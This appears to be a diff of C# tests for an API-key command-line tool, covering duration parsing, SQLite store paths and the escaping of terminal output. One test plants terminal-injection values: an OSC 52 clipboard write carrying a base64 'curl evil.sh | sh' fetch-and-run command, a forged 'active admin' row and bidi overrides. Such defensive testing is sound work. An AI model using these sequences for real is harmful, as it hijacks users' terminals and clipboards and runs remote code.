@@ -2,6 +2,7 @@ using System.CommandLine;
 using System.Text.Json;
 using AuthPatterns.ApiKeys;
 using AuthPatterns.Tool;
+using Microsoft.EntityFrameworkCore;
 
 namespace AuthPatterns.Tests.ApiKeys;
 
@@ -76,7 +77,7 @@ public sealed class KeysCommandTests : IDisposable
     [Fact]
     public async Task Errors_are_reported_with_a_non_zero_exit_code()
     {
-        var (code, _, error) = await RunAsync("keys", "show", "AAAAAAAAAAAA", "--connection", Connection);
+        var (code, _, error) = await RunAsync("keys", "show", "AAAAAAAAAAAA", "--connection", Connection, "--create-store");
         Assert.Equal(1, code);
         Assert.Contains("No key", error, StringComparison.Ordinal);
 
@@ -121,20 +122,123 @@ public sealed class KeysCommandTests : IDisposable
     }
 
     [Theory]
-    [InlineData("613566757w")]
-    [InlineData("9223372036854775807s")]
-    public void Durations_too_long_to_represent_are_errors_not_wrapped_around(string value)
-    {
-        Assert.Throws<FormatException>(() => KeysCommand.ParseDuration(value));
-    }
-
-    [Theory]
     [InlineData("90d", 90 * 24)]
     [InlineData("12h", 12)]
     [InlineData("2w", 14 * 24)]
     public void Durations_read_like_people_write_them(string value, int hours)
     {
-        Assert.Equal(TimeSpan.FromHours(hours), KeysCommand.ParseDuration(value));
+        Assert.True(DurationText.TryParse(value, TimeSpan.FromDays(36500), allowZero: false, out var duration));
+        Assert.Equal(TimeSpan.FromHours(hours), duration);
+    }
+
+    [Fact]
+    public async Task Stored_control_characters_are_printed_escaped_never_raw()
+    {
+        var (code, output, _) = await RunAsync("keys", "create", "--connection", Connection, "--owner", "partner", "--scope", "events:write", "--json");
+        Assert.Equal(0, code);
+        var id = JsonDocument.Parse(output).RootElement.GetProperty("id").GetString()!;
+
+        // Values as a hostile creator (or anyone with write access to the store) could leave them: an OSC 52 clipboard
+        // write, a carriage return plus erase-line that forges an "active admin" row, a C1 CSI, DEL, and a bidi override.
+        const string Osc52 = "partner\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007";
+        const string ForgedRow = "acme\r\u001b[2KAAAAAAAAAAAA  admin  acme  active";
+        await using (var services = KeysCommand.BuildServices("sqlite", Connection))
+        await using (var scope = services.CreateAsyncScope())
+        {
+            var db = scope.ServiceProvider.GetRequiredService<AuthPatterns.EntityFrameworkCore.ApiKeyDbContext>();
+            var record = await db.Set<ApiKeyRecord>().SingleAsync(r => r.Id == id);
+            record.OwnerId = Osc52;
+            record.Tenant = ForgedRow;
+            record.Name = "name\u009b31m\u007f";
+            record.Scopes = ["events:write\u202eetirw"];
+            record.RevokedAt = DateTimeOffset.UtcNow;
+            record.RevocationReason = "leaked\u001b[8m hidden";
+            await db.SaveChangesAsync();
+        }
+
+        var (listCode, list, _) = await RunAsync("keys", "list", "--connection", Connection);
+        var (showCode, show, _) = await RunAsync("keys", "show", id, "--connection", Connection);
+
+        Assert.Equal(0, listCode);
+        Assert.Equal(0, showCode);
+        foreach (var text in new[] { list, show })
+        {
+            Assert.DoesNotContain(text, c => c is '\u001b' or '\u0007' or '\r' or '\u009b' or '\u007f' or '\u202e');
+            Assert.Contains(@"partner\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007", text, StringComparison.Ordinal);
+            Assert.Contains(@"acme\u000d\u001b[2KAAAAAAAAAAAA", text, StringComparison.Ordinal);
+            Assert.Contains(@"events:write\u202eetirw", text, StringComparison.Ordinal);
+        }
+
+        Assert.Contains(@"name\u009b31m\u007f", show, StringComparison.Ordinal);
+        Assert.Contains(@"(leaked\u001b[8m hidden)", show, StringComparison.Ordinal);
+        Assert.Equal(2, list.Split('\n', StringSplitOptions.RemoveEmptyEntries).Length);
+    }
+
+    [Theory]
+    [InlineData("--expires-in", "613566757w")]
+    [InlineData("--expires-in", "9223372036854775807s")]
+    [InlineData("--expires-in", "99999999999999999999d")]
+    [InlineData("--expires-in", "-1.00:00:00")]
+    [InlineData("--expires-in", "0d")]
+    public async Task Durations_that_overflow_are_refused_not_wrapped_around(string option, string value)
+    {
+        var (code, output, error) = await RunAsync("keys", "create", "--connection", Connection, "--owner", "o", "--scope", "a", option, value);
+
+        Assert.Equal(2, code);
+        Assert.Empty(output);
+        Assert.StartsWith($"{option} '{value}' is not a valid duration", error, StringComparison.Ordinal);
+        Assert.Single(error.Split('\n', StringSplitOptions.RemoveEmptyEntries));
+        Assert.False(File.Exists(_database));
+        Assert.False(DurationText.TryParse(value, TimeSpan.FromDays(36500), allowZero: false, out _));
+    }
+
+    [Fact]
+    public async Task A_roll_grace_that_overflows_is_refused_before_the_store_is_touched()
+    {
+        var (code, _, error) = await RunAsync("keys", "roll", "AAAAAAAAAAAA", "--connection", Connection, "--grace", "613566757w");
+
+        Assert.Equal(2, code);
+        Assert.StartsWith("--grace '613566757w' is not a valid duration", error, StringComparison.Ordinal);
+        Assert.False(File.Exists(_database));
+    }
+
+    [Fact]
+    public async Task A_wrong_sqlite_path_is_an_error_naming_the_absolute_file_not_a_new_empty_store()
+    {
+        var relative = Path.GetRelativePath(Environment.CurrentDirectory, _database);
+        var connection = $"Data Source={relative};Pooling=False";
+
+        foreach (var args in new[] { new[] { "list" }, ["show", "AAAAAAAAAAAA"], ["revoke", "AAAAAAAAAAAA"], ["roll", "AAAAAAAAAAAA"] })
+        {
+            var (code, output, error) = await RunAsync(["keys", .. args, "--connection", connection]);
+            Assert.Equal(2, code);
+            Assert.Empty(output);
+            Assert.Contains($"No key store at {_database}: the file does not exist", error, StringComparison.Ordinal);
+            Assert.Contains("--create-store", error, StringComparison.Ordinal);
+            Assert.False(File.Exists(_database));
+        }
+
+        // An existing file without the schema is not taken for a store either.
+        await File.WriteAllBytesAsync(_database, []);
+        var (emptyCode, _, emptyError) = await RunAsync("keys", "list", "--connection", connection);
+        Assert.Equal(2, emptyCode);
+        Assert.Contains($"Cannot open the SQLite key store {_database}", emptyError, StringComparison.Ordinal);
+        File.Delete(_database);
+
+        var (listCode, _, listError) = await RunAsync("keys", "list", "--connection", connection, "--create-store");
+        Assert.Equal(0, listCode);
+        Assert.Equal($"Created the SQLite key store {_database}.", listError.Trim());
+
+        var (createCode, _, createError) = await RunAsync("keys", "create", "--connection", connection, "--owner", "o", "--scope", "a", "--json");
+        Assert.Equal(0, createCode);
+        Assert.Equal($"Using the SQLite key store {_database}.", createError.Trim());
+    }
+
+    [Fact]
+    public void Escaping_leaves_printable_text_alone_and_escapes_every_control_class()
+    {
+        Assert.Equal("Zoë 日本 🔑 a\\b", TerminalText.Escape("Zoë 日本 🔑 a\\b"));
+        Assert.Equal(@"\u0000\u0009\u000a\u001b\u007f\u0080\u009f\u061c\u200e\u2028\u202a\u2066\u2069\ud800", TerminalText.Escape("\0\t\n\u001b\u007f\u0080\u009f\u061c\u200e\u2028\u202a\u2066\u2069\ud800"));
     }
 
     private static async Task<(int Code, string Output, string Error)> RunAsync(params string[] args)
